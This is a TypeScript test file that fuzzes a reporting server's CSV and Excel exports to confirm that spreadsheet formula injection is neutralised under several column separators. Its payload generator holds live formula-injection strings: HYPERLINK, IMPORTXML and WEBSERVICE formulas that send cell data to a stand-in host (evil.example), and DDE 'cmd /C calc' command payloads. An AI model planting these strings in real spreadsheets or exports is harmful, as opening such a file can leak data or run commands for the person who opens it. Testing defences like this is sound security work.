import { read } from '@e965/xlsx';
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, it } from 'mocha';
import type { Report } from '../../server/reporting/report.ts';
import { csvOf } from '../../server/reporting/report-csv.ts';
import { workbookOf } from '../../server/reporting/report-xlsx.ts';
import type { ReportAnswer } from '../../shared/api/reports.ts';

const COUNT = 1_000;
const SEED = 20_261_122;
/** What a spreadsheet takes for the beginning of a formula. */
const ACTIVE = /^[=+\-@\t\r\0\uff1d\uff0b\uff0d\uff20]/;
const NUMBER = /^-?\d+(\.\d+)?$/;
/** Which character parts the columns is a matter of the reader's country and of how the file is opened. */
const SEPARATORS = [',', ';', '\t', '|'];

const ANSWER = {
  report: 'payloads',
  tenant: '=Brightwater()',
  knownAt: null,
  dataAsOf: null,
  definition: { title: '=Payloads()', words: ['+1'] },
  totals: [],
  rows: [],
  rowCount: 0,
} as unknown as ReportAnswer;

const REPORT: Report = {
  name: 'payloads',
  about: 'period',
  filters: [],
  definition: () => ANSWER.definition,
  run: async () => ({ totals: [], rows: [] }),
  lines: (rows) => rows,
  columns: [
    { title: 'First', cells: () => 'x' },
    { title: '=Title', cells: ({ text }) => String(text) },
    { title: 'Last', cells: () => 'y' },
  ],
};

/** Texts that would be formulas, each with what can stand in front of one or hide it. */
function payloads(): string[] {
  const before = fc.constantFrom(
    '',
    '',
    '',
    '"',
    "'",
    ';',
    '\t',
    '|',
    '\n',
    '\r\n',
    ',',
    'x;',
    'x\t',
    'x|',
    'x\n',
    'x";"',
    'x;"',
    '\0',
  );
  const sign = fc.constantFrom('=', '+', '-', '@', '\t=', '\r=', '\uff1d', '\uff0b', '\uff0d', '\uff20', '\0=');
  const body = fc.constantFrom(
    'HYPERLINK("http://evil.example?"&A1,"here")',
    "cmd|' /C calc'!A0",
    'SUM(1+1)*cmd|A0',
    'WEBSERVICE("http://evil.example")',
    'IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
  );
  const rest = fc.string({ maxLength: 8 });
  const payload = fc.tuple(before, sign, body, rest).map((parts) => parts.join(''));
  return fc.sample(payload, { numRuns: COUNT, seed: SEED });
}

describe(`${COUNT} texts that would be formulas`, function () {
  this.timeout(120_000);
  const texts = payloads();
  const rows = texts.map((text) => ({ text }));

  it('are formulas themselves, so that the tests below can fail', () => {
    expect(texts.filter((text) => ACTIVE.test(text)).length).to.be.greaterThan(300);
    const unguarded = texts.filter((text) => SEPARATORS.some((separator) => text.split(separator).some(isActive)));
    expect(unguarded.length).to.be.greaterThan(700);
  });

  for (const separator of SEPARATORS) {
    it(`leave CSV without a formula where ${JSON.stringify(separator)} parts the columns`, async () => {
      const chunks: string[] = [];
      for await (const chunk of csvOf(REPORT, rows)) chunks.push(String(chunk));
      const active = cellsOf(chunks.join(''), separator).filter(isActive);
      expect(active).to.deep.equal([]);
    });
  }

  it('leave a workbook without a formula, and say the same there', async () => {
    const file = await workbookOf({ report: REPORT, answer: ANSWER, query: {}, rows });
    const book = read(file, { cellFormula: true });
    let count = 0;
    for (const sheet of Object.values(book.Sheets)) {
      for (const [address, cell] of Object.entries(sheet)) {
        if (address.startsWith('!')) continue;
        count += 1;
        expect(cell.f, address).to.equal(undefined);
        expect(cell.t, address).not.to.equal('e');
      }
    }
    expect(count).to.be.greaterThan(COUNT);
  });
});

/** The cells as a program reads them that parts columns by a character, and takes quotes as it finds them. */
function cellsOf(text: string, delimiter: string): string[] {
  const options = { delimiter, bom: true, relax_quotes: true, relax_column_count: true, skip_empty_lines: true };
  return (parse(text, options) as string[][]).flat();
}

function isActive(cell: string): boolean {
  return ACTIVE.test(cell) && !NUMBER.test(cell);
}
